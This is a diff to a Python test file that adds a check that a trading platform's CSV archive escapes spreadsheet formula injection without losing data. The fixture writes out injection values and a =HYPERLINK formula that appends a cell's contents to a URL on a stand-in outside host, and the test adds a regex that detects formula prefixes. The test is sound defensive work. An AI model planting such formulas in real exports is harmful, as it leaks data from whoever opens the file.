@@ -1,11 +1,15 @@
 """Stored outcomes read back: side by side, as files, and for a trader what concerns it."""
 
+import csv
 import hashlib
 import io
 import json
+import re
 import zipfile
+from dataclasses import replace
 from pathlib import Path
 
+import polars as pl
 import pytest
 
 from samarkand.book.book import Book
@@ -17,7 +21,7 @@ from samarkand.platform.house.actor import Actor, Role
 from samarkand.platform.house.permissions import NotPermittedError
 from samarkand.platform.rounds.files import archive_of, report_of
 from samarkand.platform.rounds.models import Clearing, Round
-from samarkand.platform.rounds.outcomes import compare, outcome_of
+from samarkand.platform.rounds.outcomes import compare, outcome_of, snapshot_book
 from samarkand.platform.rounds.own_rows import own_unmatched, public_terms
 from samarkand.platform.rounds.permissions import visible_clearings, visible_rounds
 from tests import cast
@@ -74,6 +78,38 @@ def test_the_archive_proves_itself_anywhere(tmp_path: Path) -> None:
     assert book.digests() == kept["digests"]
     told = bytes.fromhex(kept["salt"]) + json.dumps(book.digests(), sort_keys=True).encode()
     assert hashlib.sha256(told).hexdigest() == kept["digest"] == clearing.round.snapshot.digest
+
+
+def hostile_book() -> Book:
+    """Return a ring with what a spreadsheet would run, wherever a trader may write it."""
+    book = cast.ring()
+    codes = {"Meskay gives 1": "=1+1", "Astarta gives 1": "@SUM(1)", "AltynDan wants 1": "''-2"}
+    note = pl.lit('=HYPERLINK("http://elsewhere/?"&A1,"x")').alias("note")
+    return replace(
+        book,
+        offers=book.offers.with_columns(pl.col("offer").replace(codes), note),
+        wants=book.wants.with_columns(pl.col("want").replace(codes), note),
+    )
+
+
+def test_nothing_in_the_archive_runs_in_a_spreadsheet_and_nothing_is_lost(tmp_path: Path) -> None:
+    round_ = frozen_round(hostile_book())
+    with zipfile.ZipFile(io.BytesIO(archive_of(AUDITOR, cleared(round_)))) as archive:
+        archive.extractall(tmp_path)
+    cells = [
+        cell
+        for file in tmp_path.rglob("*.csv")
+        for row in csv.reader(file.read_text().splitlines())
+        for cell in row
+    ]
+    assert {"'=1+1", "'@SUM(1)", "'" + "''-2"} <= set(cells)
+    assert [cell for cell in cells if re.match(r"'*([=+@\t\r]|-(?![\d.]+$))", cell) and cell[0] != "'"] == []
+    book = read_book(tmp_path / "book").book
+    assert book is not None
+    assert book.digests() == snapshot_book(round_).digests()
+    outcome = read_outcome(tmp_path / "outcome")
+    assert check(book, outcome) == []
+    assert {"=1+1", "@SUM(1)"} <= set(outcome.legs["offer"])
 
 
 def test_the_page_is_for_those_who_may_see_all() -> None:
